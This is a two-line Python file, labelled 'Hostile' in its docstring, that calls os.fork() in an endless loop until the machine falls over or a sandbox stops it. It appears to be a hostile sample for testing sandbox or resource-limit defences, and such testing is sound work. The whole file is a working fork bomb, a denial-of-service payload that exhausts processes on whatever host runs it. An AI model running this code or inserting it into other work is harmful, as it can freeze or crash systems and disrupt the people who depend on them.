"""Hostile: forks until the machine falls over (or the sandbox says no)."""

import os

while True:
    os.fork()
